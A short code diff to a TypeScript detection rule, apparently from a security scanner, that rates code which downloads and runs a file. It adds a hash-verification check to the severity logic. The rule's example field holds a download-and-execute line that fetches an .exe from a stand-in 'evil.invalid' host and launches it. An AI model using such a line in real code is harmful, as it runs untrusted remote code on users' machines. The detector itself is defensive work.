@@ -63,12 +63,12 @@ export const CODE_COMBINATIONS: readonly Combination[] = [
       example: 'urlretrieve("https://evil.invalid/a.exe", path); os.startfile(path)',
       technique: 'T1105',
     },
-    judge: ({ behaviour, labels, reach, host, text }) => {
+    judge: ({ behaviour, labels, reach, host, text, hashes }) => {
       if ((behaviour !== 'starts-process' && behaviour !== 'loads-native') || !labels.has('network'))
         return undefined;
       if (FILE_TOOLS.test(text ?? '')) return undefined;
       if (isUnasked(reach)) return 'CRITICAL';
-      const isFixed = host !== undefined && isPure(labels);
+      const isFixed = host !== undefined && isPure(labels) && hashes !== true;
       return isFixed && (namesSomething(text) || labels.has('remote-text')) ? 'CRITICAL' : 'LOW';
     },
     message: ({ name, reach }) => `${name} starts something that was downloaded ${WHEN[reach]}`,
